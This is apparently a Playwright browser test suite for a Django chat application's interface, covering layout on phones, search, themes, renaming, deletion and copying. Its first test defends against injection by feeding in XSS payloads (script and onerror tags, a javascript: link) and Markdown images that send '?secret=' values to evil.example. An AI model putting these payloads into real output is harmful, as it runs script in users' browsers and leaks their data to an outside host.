"""The page itself: what it looks like to a keyboard, a phone and an attacker."""

from itertools import product
from typing import Any

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import FloatRect, Page, expect

from chat.cassettes.walkthrough import questions
from chat.search.indexing import index_noted
from chat.tests.builders import AConversation, a_model
from chat.tests.page.conftest import Wire

pytestmark = pytest.mark.browser

# As who reads English sees 数据库有几张表.
STARTER = questions("en")[0]
EVIL = "<img src=x onerror=alert(1)><script>alert(1)</script>"
EXFILTRATION = "![x](https://evil.example/?secret=1) ![y][r]\n\n[r]: https://evil.example/?secret=2"


def test_nothing_that_people_models_or_tools_wrote_runs_or_asks_a_foreign_host(
    page: Page, wire: Wire, owner: User, live_server: Any
) -> None:
    conversation = AConversation(owner, EVIL)
    turn = conversation.turn(EVIL, f"{EVIL}\n\n{EXFILTRATION}\n\n[x](javascript:alert(1))")
    (call,) = turn.round(calls=((EVIL, {EVIL: EVIL}),), reasoning_content=EVIL)
    turn.end_call(call, f'[{{"{EVIL}": "{EXFILTRATION}"}}]'.replace("\n", " "))
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(conversation.url)
    page.evaluate("for (const d of document.querySelectorAll('details')) d.open = true")
    expect(page.locator(".prose").first).to_contain_text("onerror=alert(1)")
    page.wait_for_load_state("networkidle")
    assert dialogs == []
    assert [url for url in asked if not url.startswith(live_server.url)] == []


def test_nothing_widens_the_page(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner, "W" * 200)
    long = "W" * 3000
    turn = conversation.turn(long, f"{long}\n\n```\n{long}\n```\n\n|{long}|b|\n|-|-|\n|{long}|c|")
    (call,) = turn.round(calls=((long[:200], {long: long}),))
    turn.end_call(call, f'{{"{long}": "{long}"}}')
    conversation.turn("سلام", "- قائمة\n- ثانية\n\n| ا | ب |\n|---|---|\n| ج | د |")
    page.goto(conversation.url)
    page.evaluate("for (const d of document.querySelectorAll('.thread details')) d.open = true")
    widths = "element => [element.scrollWidth, element.clientWidth]"
    for width, selector in product((320, 390, 1440), ("html", "#scroll")):
        page.set_viewport_size({"width": width, "height": 700})
        inner, outer = page.locator(selector).evaluate(widths)
        assert inner <= outer, (width, selector)


def test_a_link_to_a_turn_scrolls_the_thread_and_not_the_page(
    page: Page, wire: Wire, owner: User
) -> None:
    conversation = AConversation(owner)
    turns = [conversation.turn(f"{number}\n" * 20, "Yes.") for number in range(5)]
    page.goto(f"{conversation.url}#turn-{turns[-1].row.public_id}")
    expect(page.locator(f"#turn-{turns[-1].row.public_id}")).to_be_in_viewport()
    inner, outer = page.evaluate("[document.documentElement.scrollHeight, innerHeight]")
    assert inner <= outer


@pytest.mark.parametrize("title", ["数据库有几张表,分别有多少条记录", "A title"])
def test_on_a_phone_the_title_has_a_line_of_its_own(
    page: Page, wire: Wire, owner: User, title: str
) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(AConversation(owner, title).url)
    inner, outer = page.locator("#title").evaluate("one => [one.scrollWidth, one.clientWidth]")
    assert inner <= outer
    page.get_by_label("This conversation", exact=True).click()
    expect(page.get_by_role("button", name="Rename")).to_be_in_viewport(ratio=1)


def _box(page: Page, selector: str) -> FloatRect:
    box = page.locator(selector).first.bounding_box()
    assert box is not None
    return box


def test_the_themes_stand_in_one_line(page: Page, wire: Wire, owner: User) -> None:
    page.goto("/")
    page.locator(".account-menu > summary").click()
    labels = page.locator(".theme-switch label")
    expect(labels.first).to_be_visible()
    lines = labels.evaluate_all("all => all.map((one) => one.getBoundingClientRect().y)")
    assert len(lines) > 1 and len(set(lines)) == 1


def test_pages_in_the_account_menu_have_icons_of_their_own(
    page: Page, wire: Wire, owner: User
) -> None:
    User.objects.update(is_staff=True, is_superuser=True)
    page.goto("/")
    hrefs = "uses => uses.map(one => one.getAttribute('href'))"
    icons = page.locator(".account-menu a.menu-item use").evaluate_all(hrefs)
    assert len(set(icons)) == len(icons) > 8


@pytest.mark.parametrize("width", [320, 1440])
def test_the_composer_is_one_line_high_and_no_toast_covers_it(
    page: Page, wire: Wire, owner: User, width: int
) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    conversation = AConversation(owner)
    conversation.turn(answer="Three.")
    page.goto(conversation.url)
    assert _box(page, "#message")["height"] < 40
    page.get_by_role("button", name="Copy the answer").click()
    toast = _box(page, ".toast")
    assert toast["y"] + toast["height"] < _box(page, "#composer")["y"]


def test_the_link_to_a_round_s_trace_stands_beside_its_calls(
    page: Page, wire: Wire, owner: User
) -> None:
    conversation = AConversation(owner)
    turn = conversation.turn()
    (call,) = turn.round(calls=(("sqlite-query", {}),))
    turn.end_call(call, "1")
    page.goto(conversation.url)
    page.locator(".call").hover()
    expect(page.locator(".round-trace")).to_have_css("opacity", "1")
    calls = _box(page, ".calls")
    link = _box(page, ".round-trace")
    assert link["x"] >= calls["x"] + calls["width"]
    scroll = _box(page, "#scroll")
    assert link["x"] + link["width"] <= scroll["x"] + scroll["width"]


def test_a_button_leads_to_the_end_of_a_thread_that_is_over(
    page: Page, wire: Wire, owner: User
) -> None:
    conversation = AConversation(owner)
    for number in range(9):
        conversation.turn(f"question {number}", "Text.\n\n" * 9)
    page.goto(conversation.url)
    button = page.get_by_role("button", name="To the end")
    expect(page.get_by_text("question 8")).to_be_in_viewport()
    expect(button).to_be_hidden()
    page.locator("#scroll").evaluate("element => element.scrollTo(0, 0)")
    button.click()
    expect(page.get_by_text("question 8")).to_be_in_viewport()
    expect(button).to_be_hidden()


def test_the_sidebar_is_a_drawer_on_a_phone(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner, "A title")
    page.set_viewport_size({"width": 390, "height": 800})
    page.goto(conversation.url)
    new = page.get_by_role("button", name="New conversation")
    expect(new).to_be_hidden()
    page.get_by_role("button", name="Conversations").click()
    expect(new).to_be_focused()
    page.keyboard.press("Escape")
    expect(new).to_be_hidden()
    expect(page.get_by_role("button", name="Conversations")).to_be_focused()


def test_conversations_are_searched_as_one_types(page: Page, wire: Wire, owner: User) -> None:
    AConversation(owner, "数据库有几张表")
    AConversation(owner, "Something else")
    index_noted()
    page.goto("/")
    page.get_by_role("searchbox").click()
    page.keyboard.type("数据库")
    links = page.locator("#conversations [data-conversation-link]")
    expect(links).to_have_text(["数据库有几张表"])
    page.keyboard.press("Enter")
    expect(links.first).to_be_focused()


@pytest.mark.parametrize("words", ["needle of the question", "of THE answer"])
def test_a_search_hit_opens_at_its_message_however_far_up(
    page: Page, wire: Wire, owner: User, words: str
) -> None:
    conversation = AConversation(owner)
    conversation.turn(
        "The needle of the question", "Text.\n\n" * 40 + "The **needle** of the answer."
    )
    for number in range(65):
        conversation.turn(f"question {number}.", "Text.")
    index_noted()
    page.goto("/")
    page.get_by_role("searchbox").fill(words)
    page.locator("#conversations a[href*='find=']").click()
    marked = page.locator("[data-found]")
    expect(marked).to_contain_text(words, ignore_case=True)
    expect(page.get_by_role("button", name="To the end")).to_be_visible()
    page.wait_for_function(
        """() => {
          const top = [...CSS.highlights.get("found")][0].getBoundingClientRect().top;
          return 0 < top && top < innerHeight;
        }"""
    )


def test_a_search_hit_in_a_long_question_unfolds_it(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner)
    conversation.turn("word " * 1000 + "needle", "Yes.")
    index_noted()
    page.goto("/")
    page.get_by_role("searchbox").fill("needle")
    page.locator("#conversations a[href*='find=']").click()
    expect(page.locator("[data-found] details")).to_have_attribute("open", "")


def test_a_new_conversation_is_a_shortcut_away(page: Page, wire: Wire, owner: User) -> None:
    page.goto(AConversation(owner).url)
    page.keyboard.press("Control+Shift+O")
    expect(page.get_by_role("heading", level=1)).to_have_text("New conversation")


def test_older_conversations_go_on_with_the_period_of_those_before(
    page: Page, wire: Wire, owner: User
) -> None:
    for number in range(130):
        AConversation(owner, f"Number {number}")
    page.goto("/")
    page.wait_for_load_state("networkidle")
    for count in (120, 130):
        page.get_by_role("button", name="Show older").click()
        expect(page.locator("#conversations [data-row]")).to_have_count(count)
    expect(page.locator("#conversations .group-label")).to_have_text(["Today"])


def test_shortcuts_are_listed(page: Page, wire: Wire, owner: User) -> None:
    page.goto("/")
    page.locator("#scroll").focus()
    page.keyboard.press("?")
    expect(page.get_by_role("heading", name="Keyboard shortcuts")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("heading", name="Keyboard shortcuts")).to_be_hidden()


def test_a_conversation_is_renamed_in_the_page(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner, "Old")
    page.goto(conversation.url)
    page.get_by_label("This conversation", exact=True).click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("textbox", name="Title").fill("New")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("New")
    expect(page.locator("#conversations a")).to_have_text(["New"])
    conversation.row.refresh_from_db()
    assert conversation.row.title == "New"


def test_a_title_that_is_not_saved_says_so(page: Page, wire: Wire, owner: User) -> None:
    page.goto(AConversation(owner, "Old").url)
    page.route("**/rename", lambda route: route.abort())
    page.get_by_label("This conversation", exact=True).click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("textbox", name="Title").fill("New")
    page.keyboard.press("Enter")
    expect(page.locator(".toast")).to_have_text("This was not saved. Try again in a moment.")
    expect(page.get_by_role("heading", level=1)).to_have_text("Old")


def test_a_conversation_is_deleted_after_a_question(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner, "Old")
    page.goto(conversation.url)
    page.get_by_label("This conversation", exact=True).click()
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("button", name="Keep")).to_be_focused()
    page.get_by_role("form", name="Delete").get_by_role("button", name="Delete").click()
    expect(page.get_by_text("“Old” and its traces are deleted.")).to_be_visible()
    expect(page.locator("#conversations a")).to_have_count(0)


def test_an_answer_is_copied_as_it_was_written(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner)
    conversation.turn(answer="**Three** tables:\n\n- `a`")
    page.goto(conversation.url)
    page.get_by_role("button", name="Copy the answer").click()
    expect(page.locator(".toast")).to_have_text("Copied")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied == "**Three** tables:\n\n- `a`"


def test_code_is_copied_without_its_colours(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner)
    conversation.turn(answer="```python\nx = 1\n```")
    page.goto(conversation.url)
    page.get_by_role("button", name="Copy", exact=True).click()
    expect(page.locator(".toast")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "x = 1\n"


def test_a_chosen_theme_is_kept(page: Page, wire: Wire, owner: User) -> None:
    page.goto("/")
    page.locator(".account-menu > summary").click()
    page.get_by_role("radio", name="Dark").check()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    page.reload()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")


def test_starters_are_those_of_the_chosen_model(page: Page, wire: Wire, owner: User) -> None:
    a_model("other", ("Another question",), label="Other")
    page.goto("/")
    page.get_by_role("combobox", name="Model").select_option(label="Other")
    expect(page.get_by_role("button", name="Another question")).to_be_visible()
    expect(page.get_by_role("button", name=STARTER)).to_be_hidden()


def test_a_starter_waits_for_the_script_that_hears_its_press(
    page: Page, wire: Wire, owner: User
) -> None:
    starter = page.get_by_role("button", name=STARTER)
    page.route("**/chat/main*.js", lambda route: route.abort())
    page.goto("/")
    expect(starter).to_be_disabled()
    page.unroute("**/chat/main*.js")
    page.reload()
    expect(starter).to_be_enabled()


def test_headings_and_landmarks_are_in_order(page: Page, wire: Wire, owner: User) -> None:
    conversation = AConversation(owner)
    conversation.turn(answer="# Title\n\n## Part")
    page.goto(conversation.url)
    expect(page.get_by_role("main")).to_have_count(1)
    expect(page.get_by_role("navigation", name="Conversations")).to_have_count(1)
    expect(page.get_by_role("region", name="Messages")).to_have_count(1)
    expect(page.get_by_role("heading", level=1)).to_have_count(1)
    expect(page.get_by_role("heading", level=3)).to_have_text("Title")
